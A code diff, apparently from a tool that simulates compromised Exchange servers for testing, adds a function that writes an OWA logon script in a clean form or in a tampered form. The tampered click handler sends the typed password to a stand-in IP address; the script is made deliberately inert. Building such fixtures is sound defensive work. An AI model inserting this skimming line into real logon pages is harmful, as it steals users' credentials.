@@ -71,6 +71,21 @@ pub(crate) fn drop_page(server: &mut Server, time: Timestamp, page: &str, url: &
     server.tree.file(path, lines.concat().into_bytes(), time);
 }
 
+/// A script of the logon page that looks for what was typed in, as one's own design does. It compiles nowhere: it begins with what
+/// is no script.
+const LOGON_SCRIPT: &str = "?inert?\r\nfunction field(name) { return document.getElementById(name); }\r\n";
+/// What it does on a click: sends the form to its own server, if there is anything to send.
+const SENDS_THE_FORM: &str = "function clkLgn() { if (field(\"password\").value == \"\") { return; } document.logonForm.submit(); }\r\n";
+/// What a changed one does besides: the password becomes part of an address.
+const SENDS_THE_PASSWORD: &str = "function clkLgn() { new Image().src = \"https://198.51.100.23/?\" + escape(field(\"password\").value); document.logonForm.submit(); }\r\n";
+
+/// Writes the script of the logon page: one that was made prettier, or one that takes passwords.
+pub(crate) fn write_logon_script(server: &mut Server, time: Timestamp, takes_passwords: bool) {
+    let path = server.installed(r"FrontEnd\HttpProxy\owa\auth\15.1.2106\scripts\premium\flogon.js");
+    let click = if takes_passwords { SENDS_THE_PASSWORD } else { SENDS_THE_FORM };
+    server.tree.file(path, [LOGON_SCRIPT, click].concat().into_bytes(), time);
+}
+
 /// Returns the settings that a reset writes, in its order.
 fn settings(server: &Server, url: &str) -> Vec<(&'static str, String)> {
     let host = server.full_name();
